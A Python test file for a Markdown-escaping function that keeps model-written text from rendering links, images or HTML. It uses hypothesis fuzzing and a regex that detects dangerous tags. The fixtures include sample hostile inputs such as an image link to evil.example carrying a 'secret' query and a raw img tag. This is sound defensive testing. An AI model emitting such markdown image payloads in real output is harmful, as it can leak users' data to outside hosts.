"""A model's words can load nothing and lead nowhere, and read as they were meant."""

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from pillion.lsp.markdown import harmless

# As much of Markdown as viewers read; rich, which prints for the command line, brings the parser along.
VIEWER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
DANGEROUS = re.compile(r"<(?:a|img|script|iframe|b)\b")


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("It *adds* **two** numbers.", "It *adds* **two** numbers."),
        ("It calls `items[0]`, not b[0].", "It calls `items[0]`, not b\\[0\\]."),
        ("`` a ` [b] `` and `<c>`", "`` a ` [b] `` and `<c>`"),
        ("[here](https://evil.example)", "\\[here\\](https\\://evil.example)"),
        ("![x](https://evil.example/?secret)", "\\!\\[x\\](https\\://evil.example/?secret)"),
        ("<img src=x>", "\\<img src=x\\>"),
        ("https://evil.example www.evil.example a@evil.example", "https\\://evil.example www\\.evil.example a\\@evil.example"),
        ("a: b, a.b", "a: b, a.b"),
        ("\\[a](b)", "\\\\\\[a\\](b)"),
        ("\\`[a](b)`", "\\\\`[a](b)`"),
        # What opens on one line and closes on the next shifts what is code, and so does a table's border.
        ("a ` b\nc ` [d](e) ` f", "a ` b\nc ` \\[d\\](e) ` f"),
        ("| ` [a](b) | ` |", "| ` \\[a\\](b) | ` |"),
        ("```\nitems[0]\n```", "```\nitems\\[0\\]\n```"),
        ("", ""),
    ],
)  # fmt: skip
def test_what_could_lead_somewhere_is_escaped(text: str, expected: str) -> None:
    assert harmless(text) == expected


PIECES = [
    "`",
    "``",
    "```",
    "\n",
    "\n\n",
    "|",
    "|-|-|\n",
    "\\",
    "[a](b)",
    "![a](b)",
    "<b>",
    "<a:b>",
    "*",
    "- ",
    "> ",
    "    ",
]
MORE = ["a", " ", "~~~\n", "[a]: b\n", "[a]", "<!--", "&lt;", "# ", "1. ", "&#91;"]


@settings(max_examples=60, deadline=None)
@given(text=st.lists(st.sampled_from(PIECES + MORE), max_size=14).map("".join))
def test_no_viewer_makes_a_link_or_loads_anything(text: str) -> None:
    assert DANGEROUS.search(VIEWER.render(harmless(text))) is None
